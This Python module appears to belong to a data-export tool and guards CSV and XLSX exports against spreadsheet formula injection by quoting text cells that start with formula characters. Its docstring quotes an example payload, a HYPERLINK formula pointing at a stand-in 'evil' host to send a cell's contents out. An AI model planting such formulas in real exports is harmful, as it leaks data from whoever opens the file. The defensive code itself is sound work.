"""Values written to spreadsheets made safe from formula injection (CWE-1236).

A spreadsheet program reads a cell that begins with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also one that begins with a tab or a carriage return.
An attribute value such as ``=HYPERLINK("http://evil/?"&A1, "点击")`` in a
department's spreadsheet or a resident record would then run when a planner
opens an export.  Following OWASP's CSV-injection guidance, every exported text
value that starts with one of those characters gets a single quote in front
(``'=HYPERLINK(...)``): Excel and LibreOffice show it as text, and a person
still reads the value.

What is left alone:

- numbers (int, float, bool, date columns and numeric cells in object
  columns): a real negative number stays a number;
- text that is a plain decimal number (``-12.5``, ``+86``): no formula can be
  written without an operator after the sign or a function name, and a quote
  would spoil a value that only looks like a number.

Every export goes through :func:`safe_frame` (tables) or
:func:`neutralise_formula` (single values): CSV, XLSX and the report's table
(:mod:`twinviewer.core.summary`), and any later export should call them too.
No Qt, no VTK.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet may read as the start of a formula (OWASP)."""

QUOTE = "'"
"""What is put in front of a value that starts with one of :data:`FORMULA_STARTS`."""

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text: quoted when it could start a formula.

    Parameters
    ----------
    value : Any
        A cell value.  Only ``str`` values change.

    Returns
    -------
    Any
        ``"'" + value`` for text starting with ``=``, ``+``, ``-``, ``@``, a tab
        or a carriage return (unless it is a plain decimal number), else
        ``value`` itself.

    Examples
    --------
    >>> neutralise_formula('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralise_formula("-2+3")
    "'-2+3"
    >>> neutralise_formula("-12.5"), neutralise_formula(-12.5), neutralise_formula("张三")
    ('-12.5', -12.5, '张三')
    """
    if isinstance(value, str) and value[:1] in FORMULA_STARTS and value[:1] \
            and not _PLAIN_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def safe_cells(values: Iterable[Any]) -> list[Any]:
    """:func:`neutralise_formula` of each value (a row for ``csv.writer``)."""
    return [neutralise_formula(v) for v in values]


def safe_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells and column names are neutralised.

    Numeric, boolean and date columns are returned as they are; in text,
    categorical and mixed (object) columns only the ``str`` cells that could
    start a formula change (see :func:`neutralise_formula`).

    Examples
    --------
    >>> df = pd.DataFrame({"名称": ["=1+1", "一号楼"], "人口": [-3, 4]})
    >>> safe_frame(df).to_dict("list")
    {'名称': ["'=1+1", '一号楼'], '人口': [-3, 4]}
    """
    out = table.copy()
    for i in range(table.shape[1]):
        column = table.iloc[:, i]
        if column.dtype.kind in "iufcbmM":
            continue
        text = column.astype(object)
        # only the few cells whose text starts like a formula go through Python
        risky = text.astype(str).str.startswith(FORMULA_STARTS).to_numpy()
        if risky.any():
            text = text.copy()
            text[risky] = [neutralise_formula(v) for v in text[risky]]
            out.isetitem(i, text if column.dtype == object else text.astype(object))
    out.columns = [neutralise_formula(c) for c in table.columns]
    return out
